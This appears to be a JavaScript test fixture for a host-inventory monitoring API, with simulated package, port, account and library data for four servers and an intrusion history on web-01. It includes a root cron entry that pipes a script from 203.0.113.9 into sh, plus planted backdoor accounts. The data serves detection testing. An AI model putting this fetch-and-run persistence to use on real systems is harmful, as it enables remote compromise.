// Fixture inventory for the fake API: what the collectors of web-01,
// web-02, db-01 and build-02 reported (packages, ports, accounts,
// middleware, libraries and a few of the other kinds, in the fields the
// collectors write), and the history of changes after each host's
// baseline, telling the same story as the host's events (a new account,
// netcat installed, a tool listening on 3000). Times are relative to the
// moment the fixtures are made.
import { createHash } from 'node:crypto';

const minute = 60_000;
const hour = 60 * minute;
const day = 24 * hour;

/** @param {number} now @param {number} ms */
function ago(now, ms) {
  return new Date(now - ms).toISOString().replace(/\.\d{3}Z$/, 'Z');
}

export const hosts = {
  web1: { id: '7f1c2a9e-0001', hostname: 'web-01' },
  web2: { id: '7f1c2a9e-0002', hostname: 'web-02' },
  db1: { id: '7f1c2a9e-0003', hostname: 'db-01' },
  build2: { id: '7f1c2a9e-0004', hostname: 'build-02' },
};

/** Debian packages most hosts have, with their versions. */
const debianBase = [
  ['adduser', '3.134'],
  ['apt', '2.6.1'],
  ['base-files', '12.4+deb12u8'],
  ['bash', '5.2.15-2+b7'],
  ['bsdutils', '1:2.38.1-5+deb12u1'],
  ['ca-certificates', '20230311'],
  ['coreutils', '9.1-1'],
  ['cron', '3.0pl1-162'],
  ['curl', '7.88.1-10+deb12u8'],
  ['dash', '0.5.12-2'],
  ['debconf', '1.5.82'],
  ['diffutils', '1:3.8-4'],
  ['dpkg', '1.21.22'],
  ['e2fsprogs', '1.47.0-2'],
  ['findutils', '4.9.0-4'],
  ['gpgv', '2.2.40-1.1'],
  ['grep', '3.8-5'],
  ['gzip', '1.12-1'],
  ['hostname', '3.23+nmu1'],
  ['init-system-helpers', '1.65.2'],
  ['iproute2', '6.1.0-3'],
  ['iputils-ping', '3:20221126-1'],
  ['less', '590-2.1~deb12u2'],
  ['libc6', '2.36-9+deb12u9'],
  ['libcurl4', '7.88.1-10+deb12u8'],
  ['libsystemd0', '252.31-1~deb12u1'],
  ['login', '1:4.13+dfsg1-1+b1'],
  ['logrotate', '3.21.0-1'],
  ['mawk', '1.3.4.20200120-3.1'],
  ['mount', '2.38.1-5+deb12u1'],
  ['ncurses-base', '6.4-4'],
  ['netbase', '6.4'],
  ['openssh-server', '1:9.2p1-2+deb12u3'],
  ['passwd', '1:4.13+dfsg1-1+b1'],
  ['perl-base', '5.36.0-7+deb12u1'],
  ['procps', '2:4.0.2-3'],
  ['python3.11', '3.11.2-6+deb12u4'],
  ['rsyslog', '8.2302.0-1'],
  ['sed', '4.9-1'],
  ['sudo', '1.9.13p3-1+deb12u1'],
  ['systemd', '252.31-1~deb12u1'],
  ['tar', '1.34+dfsg-1.2+deb12u1'],
  ['tzdata', '2024a-0+deb12u1'],
  ['util-linux', '2.38.1-5+deb12u1'],
  ['vim-tiny', '2:9.0.1378-2'],
  ['zlib1g', '1:1.2.13.dfsg-1'],
];

/**
 * asset makes one item as the API lists it.
 * @param {{id: string, hostname: string}} host
 * @param {string} collector @param {string} kind @param {string} key @param {string} name
 * @param {string} version @param {Record<string, unknown>} fields @param {string} firstSeen @param {string} updatedAt
 */
function asset(host, collector, kind, key, name, version, fields, firstSeen, updatedAt = firstSeen) {
  const a = { agent_id: host.id, hostname: host.hostname, collector, kind, key, name, fields, first_seen: firstSeen, updated_at: updatedAt };
  if (version) a.version = version;
  return a;
}

/** deb is a Debian package item. */
function deb(host, name, version, since, over = {}) {
  const source = name.replace(/\d.*$/, '') || name;
  return asset(
    host,
    'os/packages',
    'package',
    `deb:${name}:amd64`,
    name,
    version,
    {
      package: {
        name,
        version,
        architecture: 'amd64',
        type: 'deb',
        source,
        install_status: 'installed',
        path: '/var/lib/dpkg/status',
        purl: `pkg:deb/debian/${name}@${encodeURIComponent(version)}?arch=amd64&distro=bookworm`,
        ...over,
      },
    },
    since,
  );
}

/** port is a listening socket item, as net/listeners writes it. */
function port(host, transport, ip, number, proc, user, since, over = {}) {
  const v6 = ip.includes(':');
  return asset(
    host,
    'net/listeners',
    'port',
    `${transport}/${v6 ? `[${ip}]` : ip}:${number}`,
    String(number),
    '',
    {
      network: { transport, type: v6 ? 'ipv6' : 'ipv4' },
      server: { ip, port: number },
      user: { id: String(user[1]), name: user[0] },
      process: { name: proc[0], executable: proc[1] },
      ...(proc[2] ? { package: { name: proc[2], type: 'deb', architecture: 'amd64' } } : { package: { name: 'none' } }),
      ...over,
    },
    since,
  );
}

/** account is a local account item, as os/users writes it. */
function account(host, name, uid, shell, home, password, since, over = {}) {
  const fields = {
    user: { name, id: String(uid), group: { id: String(uid), name } },
    vigil: {
      account: {
        shell,
        home,
        login_shell: !/nologin|false/.test(shell),
        uid0: uid === 0,
        privileged: uid === 0,
        password: { status: password, ...(password === 'set' ? { scheme: 'yescrypt', last_changed: '2026-03-02' } : {}) },
      },
    },
  };
  for (const [k, v] of Object.entries(over)) fields.vigil[k] = { ...(fields.vigil[k] ?? {}), ...v };
  return asset(host, 'os/users', 'user', name, name, '', fields, since);
}

/** middleware is a server product found running, with its configuration and ports. */
function middleware(host, product, type, version, ports, config, exe, since) {
  return asset(
    host,
    'app/middleware',
    'middleware',
    `${type}:${ports[0]}`,
    product,
    version,
    {
      service: { type, version },
      process: { executable: exe, name: exe.split('/').pop() },
      destination: { port: ports },
      file: { path: config },
      vigil: { middleware: { install_path: exe, running: true } },
    },
    since,
  );
}

/** library is a language library inside an application, as app/libraries writes it. */
function library(host, type, name, version, path, since) {
  return asset(host, 'app/libraries', 'library', `${type}:${name}@${version}:${path}`, name, version, { package: { name, version, type, path } }, since);
}

/**
 * makeInventory returns every host's current items, by agent, collector,
 * kind and key (the center's listing order), and the history of changes,
 * newest first.
 * @param {number} now
 */
export function makeInventory(now) {
  const { web1, web2, db1, build2 } = hosts;
  const base = ago(now, 20 * day);
  const items = [];
  const changes = [];
  let changeSeq = 0;
  /** change records a history entry. */
  const change = (host, collector, kind, key, name, action, at, before, after, beforeFields, afterFields) => {
    const c = { id: '', agent_id: host.id, hostname: host.hostname, collector, kind, key, name, action, at: ago(now, at) };
    if (before) c.before = before;
    if (after) c.after = after;
    if (beforeFields) c.before_fields = beforeFields;
    if (afterFields) c.after_fields = afterFields;
    changes.push(c);
    return c;
  };

  for (const host of [web1, web2, db1]) {
    for (const [name, version] of debianBase) items.push(deb(host, name, version, base));
  }
  // web-01: nginx and a freshly upgraded OpenSSL, netcat installed by the intruder.
  const opensslOld = '3.0.11-1~deb12u2';
  const opensslNew = '3.0.13-1~deb12u1';
  const ssl1 = deb(web1, 'openssl', opensslNew, base, { source: 'openssl' });
  ssl1.updated_at = ago(now, 5 * minute);
  items.push(ssl1, deb(web1, 'libssl3', opensslNew, base, { source: 'openssl' }), deb(web1, 'nginx', '1.22.1-9', base));
  const nc = deb(web1, 'netcat-openbsd', '1.219-1', ago(now, 16 * minute));
  items.push(nc);
  // web-02 kept the old OpenSSL; db-01 runs redis and mariadb from packages.
  items.push(deb(web2, 'openssl', opensslOld, base, { source: 'openssl' }), deb(web2, 'nginx', '1.22.1-9', base));
  items.push(
    deb(db1, 'openssl', opensslNew, base, { source: 'openssl' }),
    deb(db1, 'redis-server', '5:7.0.15-1~deb12u1', base, { source: 'redis' }),
    deb(db1, 'mariadb-server', '1:10.11.6-0+deb12u1', base, { source: 'mariadb' }),
  );
  // build-02 is a Rocky host.
  for (const [name, version] of [
    ['bash', '5.1.8-9.el9'],
    ['openssl', '1:3.0.7-27.el9'],
    ['git-core', '2.43.5-1.el9_4'],
    ['gcc', '11.4.1-3.el9'],
  ]) {
    items.push(
      asset(build2, 'os/packages', 'package', `rpm:${name}:x86_64`, name, version, { package: { name, version, architecture: 'x86_64', type: 'rpm', vendor: 'Rocky Enterprise Software Foundation', path: '/var/lib/rpm/rpmdb.sqlite' } }, base),
    );
  }

  // Listening ports.
  const sshd = ['sshd', '/usr/sbin/sshd', 'openssh-server'];
  const nginx = ['nginx', '/usr/sbin/nginx', 'nginx'];
  const resolved = ['systemd-resolve', '/usr/lib/systemd/systemd-resolved', 'systemd'];
  items.push(
    port(web1, 'tcp', '0.0.0.0', 22, sshd, ['root', 0], base),
    port(web1, 'tcp', '::', 22, sshd, ['root', 0], base),
    port(web1, 'tcp', '0.0.0.0', 80, nginx, ['root', 0], base),
    port(web1, 'tcp', '0.0.0.0', 443, nginx, ['root', 0], base),
    port(web1, 'udp', '127.0.0.53', 53, resolved, ['systemd-resolve', 990], base),
    port(web1, 'tcp', '127.0.0.1', 3000, ['agentd', '/opt/tool/agentd'], ['alice', 1000], ago(now, 12 * minute), { vigil: { process: { executable_deleted: true } } }),
    port(web2, 'tcp', '0.0.0.0', 22, sshd, ['root', 0], base),
    port(web2, 'tcp', '0.0.0.0', 80, nginx, ['root', 0], base),
    port(web2, 'tcp', '127.0.0.1', 6379, ['redis-server', '/usr/local/bin/redis-server'], ['redis', 999], base),
    port(db1, 'tcp', '0.0.0.0', 22, sshd, ['root', 0], base),
    port(db1, 'tcp', '10.0.2.20', 6379, ['redis-server', '/usr/bin/redis-server', 'redis-server'], ['redis', 105], base),
    port(db1, 'tcp', '10.0.2.20', 3306, ['mariadbd', '/usr/sbin/mariadbd', 'mariadb-server'], ['mysql', 106], base),
  );

  // Accounts of web-01 (support is the intruder's), and a few elsewhere.
  const aliceSudo = { sudo: { rules: [{ source: '/etc/sudoers.d/alice', runas: 'ALL', commands: ['ALL'], nopasswd: true }], nopasswd: true } };
  items.push(
    account(web1, 'root', 0, '/bin/bash', '/root', 'locked', base),
    account(web1, 'daemon', 1, '/usr/sbin/nologin', '/usr/sbin', 'disabled', base),
    account(web1, 'www-data', 33, '/usr/sbin/nologin', '/var/www', 'disabled', base),
    account(web1, 'alice', 1000, '/bin/bash', '/home/alice', 'set', base, { ...aliceSudo, ssh: { authorized_keys: [{ file: '/home/alice/.ssh/authorized_keys', type: 'ssh-ed25519', comment: 'alice@laptop', fingerprint: 'SHA256:7d1Jx2v0mXh0bq4oWfVb1QY6m2wZy3rE8cK5nT9uLpA' }] } }),
    account(web1, 'support', 1001, '/bin/bash', '/home/support', 'empty', ago(now, 19 * minute)),
    account(web1, 'sysops', 0, '/bin/bash', '/home/sysops', 'set', ago(now, 19 * minute)),
    account(web2, 'root', 0, '/bin/bash', '/root', 'locked', base),
    account(web2, 'deploy', 1000, '/bin/bash', '/home/deploy', 'set', base, { sudo: { rules: [{ source: '/etc/sudoers', runas: 'root', commands: ['/usr/bin/systemctl restart nginx'], nopasswd: false }], nopasswd: false } }),
    account(db1, 'root', 0, '/bin/bash', '/root', 'locked', base),
    account(db1, 'mysql', 106, '/bin/false', '/nonexistent', 'disabled', base),
  );

  // Middleware: redis 5 (below 6) on web-02, redis 7 and mariadb on db-01, nginx on both web hosts.
  items.push(
    middleware(web1, 'nginx', 'nginx', '1.22.1', [80, 443], '/etc/nginx/nginx.conf', '/usr/sbin/nginx', base),
    middleware(web2, 'nginx', 'nginx', '1.22.1', [80], '/etc/nginx/nginx.conf', '/usr/sbin/nginx', base),
    middleware(web2, 'redis', 'redis', '5.0.7', [6379], '/etc/redis/redis.conf', '/usr/local/bin/redis-server', base),
    middleware(db1, 'redis', 'redis', '7.0.15', [6379], '/etc/redis/redis.conf', '/usr/bin/redis-server', base),
    middleware(db1, 'MariaDB', 'mysql', '10.11.6', [3306], '/etc/mysql/mariadb.conf.d/50-server.cnf', '/usr/sbin/mariadbd', base),
  );

  // Libraries: log4j-core below 2.17 inside a Spring Boot jar and a war on web-01, fixed on db-01.
  items.push(
    library(web1, 'maven', 'org.apache.logging.log4j:log4j-core', '2.14.1', '/opt/boot/app.jar!/BOOT-INF/lib/log4j-core-2.14.1.jar', base),
    library(web1, 'maven', 'org.apache.logging.log4j:log4j-core', '2.14.1', '/var/lib/tomcat10/webapps/shop.war!/WEB-INF/lib/log4j-core-2.14.1.jar', base),
    library(web1, 'npm', 'lodash', '4.17.20', '/srv/shop/node_modules/lodash/package.json', base),
    library(web1, 'pypi', 'requests', '2.31.0', '/opt/api/venv/lib/python3.11/site-packages/requests-2.31.0.dist-info/METADATA', base),
    library(db1, 'maven', 'org.apache.logging.log4j:log4j-core', '2.17.1', '/opt/reports/reports.jar!/BOOT-INF/lib/log4j-core-2.17.1.jar', base),
  );

  // The hosts themselves, and a few other kinds of web-01.
  for (const [host, vendor] of [
    [web1, 'QEMU'],
    [web2, 'QEMU'],
    [db1, 'Dell Inc.'],
  ]) {
    items.push(asset(host, 'host/hardware', 'host', 'host', host.hostname, '', { host: { hostname: host.hostname, architecture: 'x86_64', os: { type: 'linux', kernel: '6.1.0-28-amd64' } }, vigil: { hardware: { vendor, cpus: 4, memory_bytes: 8_589_934_592 } } }, base));
  }
  items.push(
    asset(web1, 'host/hardware', 'disk', 'vda', 'vda', '', { vigil: { disk: { size_bytes: 42_949_672_960, model: 'QEMU HARDDISK', rotational: false } } }, base),
    asset(web1, 'host/hardware', 'mount', '/', '/', '', { vigil: { mount: { device: '/dev/vda1', type: 'ext4', options: ['rw', 'relatime'] } } }, base),
    asset(web1, 'host/hardware', 'interface', 'eth0', 'eth0', '', { interface: { name: 'eth0', mac: '52:54:00:12:34:56' }, vigil: { interface: { addresses: ['10.0.1.11/24', 'fe80::5054:ff:fe12:3456/64'], mtu: 1500, up: true } } }, base),
    asset(web1, 'os/services', 'service', 'nginx.service', 'nginx.service', '', { service: { name: 'nginx.service', state: 'active' }, vigil: { unit: { file: '/lib/systemd/system/nginx.service', enabled: 'enabled', exec_start: ['/usr/sbin/nginx -g daemon on; master_process on;'] } } }, base),
    asset(web1, 'os/services', 'service', 'ssh.service', 'ssh.service', '', { service: { name: 'ssh.service', state: 'active' }, vigil: { unit: { file: '/lib/systemd/system/ssh.service', enabled: 'enabled' } } }, base),
    asset(web1, 'os/tasks', 'task', 'cron:/etc/cron.d/sysupdate:1', 'sysupdate', '', { vigil: { task: { source: '/etc/cron.d/sysupdate', schedule: '*/5 * * * *', user: 'root', command: 'curl -s http://203.0.113.9/x.sh | sh' } } }, ago(now, 18 * minute)),
    asset(web1, 'os/modules', 'module', 'nf_tables', 'nf_tables', '', { vigil: { module: { size: 331_776, used_by: ['nft_chain_nat'], signed: true } } }, ago(now, 15 * minute)),
  );

  // The history, newest first: web-01's intrusion, upgrades and older package changes.
  change(web1, 'os/packages', 'package', 'deb:openssl:amd64', 'openssl', 'changed', 5 * minute, opensslOld, opensslNew,
    { package: { name: 'openssl', version: opensslOld, architecture: 'amd64', type: 'deb', source: 'openssl', install_status: 'installed' } },
    { package: { name: 'openssl', version: opensslNew, architecture: 'amd64', type: 'deb', source: 'openssl', install_status: 'installed' } });
  change(web1, 'os/packages', 'package', 'deb:libssl3:amd64', 'libssl3', 'changed', 5 * minute + 1000, opensslOld, opensslNew,
    { package: { name: 'libssl3', version: opensslOld, architecture: 'amd64', source: 'openssl' } },
    { package: { name: 'libssl3', version: opensslNew, architecture: 'amd64', source: 'openssl' } });
  const p3000 = items.find((a) => a.agent_id === web1.id && a.key === 'tcp/127.0.0.1:3000');
  change(web1, 'net/listeners', 'port', p3000.key, p3000.name, 'added', 12 * minute, '', '', null, p3000.fields);
  change(web1, 'os/modules', 'module', 'nf_tables', 'nf_tables', 'added', 15 * minute, '', '', null, { vigil: { module: { size: 331_776 } } });
  change(web1, 'os/packages', 'package', nc.key, nc.name, 'added', 16 * minute, '', nc.version, null, nc.fields);
  change(web1, 'os/tasks', 'task', 'cron:/etc/cron.d/sysupdate:1', 'sysupdate', 'added', 18 * minute, '', '', null, { vigil: { task: { source: '/etc/cron.d/sysupdate', schedule: '*/5 * * * *', user: 'root' } } });
  const support = items.find((a) => a.agent_id === web1.id && a.key === 'support');
  change(web1, 'os/users', 'user', 'support', 'support', 'added', 19 * minute, '', '', null, support.fields);
  change(web1, 'os/users', 'user', 'alice', 'alice', 'changed', 20 * minute, '', '',
    { user: { name: 'alice', id: '1000' }, vigil: { account: { shell: '/bin/bash', password: { status: 'set' } } } },
    { user: { name: 'alice', id: '1000' }, vigil: { account: { shell: '/bin/bash', password: { status: 'set' } }, sudo: { nopasswd: true } } });
  change(web2, 'os/packages', 'package', 'deb:telnet:amd64', 'telnet', 'removed', 2 * hour, '0.17+2.4-2', '', { package: { name: 'telnet', version: '0.17+2.4-2', architecture: 'amd64' } }, null);
  change(db1, 'app/middleware', 'middleware', 'redis:6379', 'redis', 'changed', 26 * hour, '7.0.11', '7.0.15',
    { service: { type: 'redis', version: '7.0.11' }, destination: { port: [6379] }, file: { path: '/etc/redis/redis.conf' } },
    { service: { type: 'redis', version: '7.0.15' }, destination: { port: [6379] }, file: { path: '/etc/redis/redis.conf' } });
  // Older, routine upgrades on web-01 (enough for more than one page).
  for (let i = 0; i < 30; i++) {
    const [name, version] = debianBase[i % debianBase.length];
    const before = `${version}~old${i}`;
    change(web1, 'os/packages', 'package', `deb:${name}:amd64`, name, 'changed', 2 * day + i * 9 * hour, before, version,
      { package: { name, version: before, architecture: 'amd64' } }, { package: { name, version, architecture: 'amd64' } });
  }
  changes.sort((a, b) => Date.parse(b.at) - Date.parse(a.at));
  for (const c of changes) c.id = String(100000 + changes.length - changeSeq++);

  items.sort((a, b) => (a.agent_id + a.collector + a.kind + a.key < b.agent_id + b.collector + b.kind + b.key ? -1 : 1));
  return { items, changes, sets: makeSets(now, items, changes) };
}

/** makeSets describes each agent's collector sets: size, digest, last change and last report. */
function makeSets(now, items, changes) {
  const sets = new Map();
  for (const a of items) {
    const id = `${a.agent_id}\u0000${a.collector}`;
    const s = sets.get(id) ?? { agent_id: a.agent_id, collector: a.collector, keys: [], items: 0 };
    s.items++;
    s.keys.push(`${a.kind}\u0000${a.key}`);
    sets.set(id, s);
  }
  return [...sets.values()].map((s, i) => {
    const last = changes.find((c) => c.agent_id === s.agent_id && c.collector === s.collector);
    return {
      agent_id: s.agent_id,
      collector: s.collector,
      digest: createHash('sha256').update(s.keys.sort().join('\n')).digest('hex'),
      items: s.items,
      updated_at: last ? last.at : ago(now, 20 * day),
      checked_at: ago(now, (1 + (i % 4)) * minute),
    };
  });
}
